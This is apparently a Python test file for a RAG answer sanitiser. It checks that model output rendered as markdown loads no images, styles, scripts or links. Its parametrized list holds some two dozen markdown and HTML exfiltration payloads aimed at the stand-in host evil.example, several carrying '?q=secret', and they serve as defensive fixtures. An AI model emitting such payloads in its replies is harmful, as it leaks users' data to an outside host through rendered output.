"""What a model says is shown as text: it loads nothing, and no address hides behind words."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from langchain_kimi.rag.answer.check import _RUN
from langchain_kimi.rag.answer.inert import InertStream, inert
from langchain_kimi.rag.answer.quotes import locate
from langchain_kimi.rag.answer.reply import read_reply

HARMLESS = {"p", "br", "em", "strong", "code", "pre", "blockquote", "hr", "ul", "ol", "li"} | {
    f"h{level}" for level in range(1, 7)
}


class Tags(HTMLParser):
    """Collects the tags that a browser would make of a text."""

    def __init__(self) -> None:
        super().__init__()
        self.found: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.add(tag if not attrs else f"{tag} {attrs}")


def tags_of(markdown: str) -> set[str]:
    parser = Tags()
    parser.feed(MarkdownIt("commonmark", {"html": True}).render(markdown))
    return parser.found


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](http://evil.example/?q=1)",
        "![a[b]](http://evil.example/?q=1)",
        "![x](\nhttp://evil.example/?q=1)",
        "![a\nb](http://evil.example/?q=1)",
        "![a](<http://evil.example/a b>)",
        "![x][r]\n\n[r]: http://evil.example/?q=1",
        "> ![r]\n\n- [r]: http://evil.example/?q=1",
        "![![x](http://evil.example)](http://evil.example)",
        "!<!-- -->[x](http://evil.example)",
        "<img src='http://evil.example/?q=1'>",
        "<VIDEO poster='http://evil.example/?q=1'>",
        "<img\tsrc=http://evil.example/q>",
        "<p style='background:url(http://evil.example/?q=1)'>",
        "<table a<b background=http://evil.example>",
        '<div>\n<x"y style=background:url(http://evil.example)>\n</div>',
        "<style>@import 'http://evil.example/?q=1'</style>",
        "[the report](http://evil.example/?q=secret)",
        "Oats rose [1](http://evil.example/?q=secret).",
        "Oats rose [1].\n\n[1]: http://evil.example/?q=secret",
        "[![x](http://evil.example)][1]\n\n[1]:\nhttp://evil.example",
        "<http://evil.example/?q=secret>",
        "<a\nhref=http://evil.example>here</a>",
        "<script>fetch('http://evil.example')</script>",
    ],
)
def test_it_loads_and_links_nothing(hostile: str) -> None:
    assert tags_of(hostile) - HARMLESS
    assert tags_of(inert(hostile)) <= HARMLESS


@given(st.text("![](x)<>/ :'\"=\n\\`-ap", max_size=60))
def test_nothing_made_of_their_signs_loads(text: str) -> None:
    assert tags_of(inert(text)) <= HARMLESS
    assert inert(inert(text)) == inert(text)


@given(st.lists(st.text("![](x)<>/ :-a", max_size=4), max_size=20))
def test_a_text_in_pieces_is_taken_apart_alike(pieces: list[str]) -> None:
    stream, whole = InertStream(), InertStream()
    shown = "".join([*map(stream.feed, pieces), stream.end()])
    assert shown == whole.feed("".join(pieces)) + whole.end()
    assert tags_of(shown) <= HARMLESS


@pytest.mark.parametrize(
    "text",
    [
        "Oats rose from 77 to 81 tonnes [1][2], p < 0.05 and 3<4 [3, 4].",
        "| Oats | 77 |\n\n- **one** [1]\n- `two` [2]\n\n```\nx = y[0] > 2\n```",
        "Really! See page 3: 5 > 4.",
    ],
)
def test_plain_text_is_left_alone(text: str) -> None:
    assert inert(text) == text


@pytest.mark.parametrize(
    "signs", [" ", "\n", "![", "<a ", "[1 ", "\n* ", ". ", "evidence ", "[1]", "…", "![a](", "[S1"]
)
def test_endless_repetition_takes_no_endless_time(signs: str) -> None:
    # a model that loops sends such things; by the square of their length it would take an hour
    text = "x" + signs * (300_000 // len(signs)) + "x"
    read_reply(inert(text))
    assert isinstance(re.findall(_RUN, text), list)
    assert not locate(text, "nothing of it")
